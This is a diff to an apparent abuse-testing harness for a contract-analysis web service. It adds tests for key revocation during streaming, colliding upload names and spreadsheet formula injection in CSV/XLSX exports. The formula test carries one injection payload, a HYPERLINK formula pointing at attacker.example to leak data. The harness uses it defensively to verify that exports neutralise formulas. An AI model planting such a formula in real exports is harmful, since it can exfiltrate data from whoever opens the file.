@@ -13,6 +13,7 @@ Bounded: ``rounds`` requests per family, ``SECONDS`` in all.
 from __future__ import annotations
 
 import io
+import json
 import socket
 import statistics
 import threading
@@ -32,8 +33,10 @@ from clausewise.core.progress import NoProgress, Progress
 from clausewise.evals.processes import ServeProcess
 from clausewise.service.keys import KeyStore
 
-SECONDS = 600.0
+SECONDS = 900.0
 EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
+#: How soon a stream must end once its key is revoked (the stream re-checks its key every second).
+REVOKED_STREAM_SECONDS = 3.0
 SERVER_LIMITS = [
     "--parsing.max-parse-seconds",
     "1",
@@ -72,14 +75,49 @@ def status_of_head(url: str, head: str) -> int:
             return 0
 
 
+Answer = tuple[int, str]  # (status, text); a family's own failure (a live formula, a stream that
+# outlived its key) is reported as status 0, which no family expects
+
+
 @dataclass(frozen=True)
 class Family:
     name: str
     expected: frozenset[int]
-    send: Callable[[httpx.Client, str, str], tuple[int, str]]  # (client, url, acme's key) -> (status, text)
+    send: Callable[[httpx.Client, str, str], Answer]  # (client, url, acme's key) -> (status, text)
+    #: after every round: how many of the answers lost or mixed up what was sent (None: nothing to count)
+    lost: Callable[[httpx.Client, list[Answer]], int] | None = None
 
 
-def _families() -> list[Family]:
+_FORMULA = '=HYPERLINK("http://attacker.example/?leak","click")'
+_FORMULA_START = ("=", "+", "-", "@")
+
+
+def finished(client: httpx.Client, job_id: str, seconds: float = 300.0) -> dict[str, Any]:
+    """The job once it has ended (polled)."""
+    deadline = time.monotonic() + seconds
+    while True:
+        job = client.get(f"/v1/jobs/{job_id}").json()
+        if job["status"] in ("done", "failed", "cancelled") or time.monotonic() > deadline:
+            return job
+        time.sleep(0.2)
+
+
+def live_formulas(csv_text: str, xlsx: bytes) -> int:
+    """Cells a spreadsheet would run: CSV cells starting like a formula, XLSX cells typed as one
+    (read here with the csv module and openpyxl, not with the product's writer)."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
+    live = sum(cell.startswith(_FORMULA_START) for cell in cells)
+    workbook = load_workbook(io.BytesIO(xlsx))
+    for sheet in workbook.worksheets:
+        live += sum(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    return live
+
+
+def _families(keys: KeyStore) -> list[Family]:
     slow = word_file_with(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 40_000)
     bomb = word_file_with(b"<w:p/>" * 600_000)
     malformed = word_file_with(b"<w:p><w:r><w:t>unclosed</w:r></w:p>")
@@ -105,6 +143,66 @@ def _families() -> list[Family]:
             return response.status_code, response.text
 
         return send
+
+    def formula_export(client: httpx.Client, _url: str, _key: str) -> Answer:
+        queued = client.post("/v1/checks", json={"contracts": ["acme-nda"], "hypotheses": [_FORMULA]})
+        if queued.status_code != 202:
+            return queued.status_code, queued.text
+        job = finished(client, queued.json()["id"])["id"]
+        as_csv = client.get(f"/v1/jobs/{job}/result", params={"format": "csv"})
+        as_xlsx = client.get(f"/v1/jobs/{job}/result", params={"format": "xlsx"})
+        if as_csv.status_code != 200 or as_xlsx.status_code != 200:
+            return max(as_csv.status_code, as_xlsx.status_code), as_csv.text
+        return (0 if live_formulas(as_csv.text, as_xlsx.content) else 200), as_csv.text
+
+    def revoked_mid_stream(client: httpx.Client, url: str, _key: str) -> Answer:
+        """A key revoked while its stream of a running job is open: the stream must end within
+        REVOKED_STREAM_SECONDS with an ``error`` event (status 0 otherwise)."""
+        info, secret = keys.create("acme", "revoked mid-stream")
+        headers = {"Authorization": f"Bearer {secret}"}
+        with httpx.Client(base_url=url, headers=headers, timeout=30) as mine:
+            queued = mine.post("/v1/checks", json={"contracts": ["acme-nda"], "suite": "nda"})
+            if queued.status_code != 202:
+                return queued.status_code, queued.text
+            revoked: list[float] = []
+            timer = threading.Timer(0.5, lambda: (keys.revoke(info.id), revoked.append(time.monotonic())))
+            events = []
+            with mine.stream("GET", f"/v1/jobs/{queued.json()['id']}/events") as stream:
+                timer.start()
+                events = [line for line in stream.iter_lines() if line.startswith("event:")]
+            timer.join()
+            ended = time.monotonic() - revoked[0] if revoked else None
+        errored = bool(events) and events[-1].split(":", 1)[1].strip() == "error"
+        in_time = ended is not None and ended <= REVOKED_STREAM_SECONDS
+        return (200 if errored and in_time else 0), ""
+
+    nda = (EXAMPLES / "mutual-nda.txt").read_text(encoding="utf-8")
+    colliding_names = ("§§§.txt", "合同.txt", "契約.txt", "###.txt")
+    sent = iter(range(1_000_000))
+
+    def colliding_upload(client: httpx.Client, _url: str, _key: str) -> Answer:
+        number = next(sent)
+        text = nda + f"\n\nSchedule {number}: marker-{number:06d}.\n"
+        name = colliding_names[number % len(colliding_names)]
+        response = client.post("/v1/contracts", files={"file": (name, text.encode())})
+        return response.status_code, f"marker-{number:06d} " + response.text
+
+    def mixed_up(client: httpx.Client, answers: list[Answer]) -> int:
+        """Uploads accepted (202) whose contract is missing, shared with another upload, or
+        holds another upload's text."""
+        problems, owners = 0, {}
+        for status, text in answers:
+            if status != 202:
+                continue
+            marker, body = text.split(" ", 1)
+            job = finished(client, json.loads(body)["job"]["id"])
+            contract = (job.get("result") or {}).get("contract_id")
+            if job["status"] != "done" or contract is None or contract in owners:
+                problems += 1
+                continue
+            owners[contract] = marker
+            problems += marker not in client.get(f"/v1/contracts/{contract}/text").text
+        return problems
 
     multipart = "POST /v1/contracts HTTP/1.1\nHost: {host}\nContent-Type: multipart/form-data; boundary=b\n"
     chat = {
@@ -154,6 +252,14 @@ def _families() -> list[Family]:
             "a 14,400 pt page's image",
             frozenset({200}),
             request("GET", "/v1/contracts/acme-poster/pages/1/image"),
+        ),
+        Family("a key revoked while its stream is open", frozenset({200}), revoked_mid_stream),
+        Family("a hypothesis written as a formula, exported", frozenset({200}), formula_export),
+        Family(
+            "different files whose names make the same id, at once",
+            frozenset({202, 409}),
+            colliding_upload,
+            lost=mixed_up,
         ),
         Family(
             "a queue flood",
@@ -231,7 +337,7 @@ def run(
                 ):
                     time.sleep(0.2)
             before = owner.get("/v1/contracts/acme-nda/text").text
-            for family in _families():
+            for family in _families(keys):
                 if time.monotonic() > deadline:
                     break
                 progress.stage(f"abuse: {family.name}, {rounds} at {concurrency}")
@@ -254,7 +360,7 @@ def run(
         "families": rows,
         "unexpected_statuses": sum(r["unexpected"] for r in rows),
         "leaks": sum(r["leaks"] for r in rows),
-        "lost": int(before != after),
+        "lost": int(before != after) + sum(r["lost"] for r in rows),
         "other_tenant_queue_position_after_flood": queue_position,
         "other_tenant_p95_max": max((r["other_p95_s"] or 0.0 for r in rows), default=None),
         "peak_over_idle_max_mb": max((r["peak_over_idle_mb"] for r in rows), default=None),
@@ -295,12 +401,14 @@ def _one_family(
     watcher.join(30)
     statuses = [status for status, _ in answers]
     shown = [text for _, text in answers if str(data_dir) in text or "beta-nda" in text]
+    lost = family.lost(owner, answers) if family.lost is not None else 0
     return {
         "family": family.name,
         "requests": len(answers),
         "statuses": sorted(set(statuses)),
         "unexpected": sum(status not in family.expected for status in statuses),
         "leaks": len(shown),
+        "lost": lost,
         "other_requests": len(latencies),
         "other_p95_s": _p95(latencies),
         "other_median_s": round(statistics.median(latencies), 3) if latencies else None,
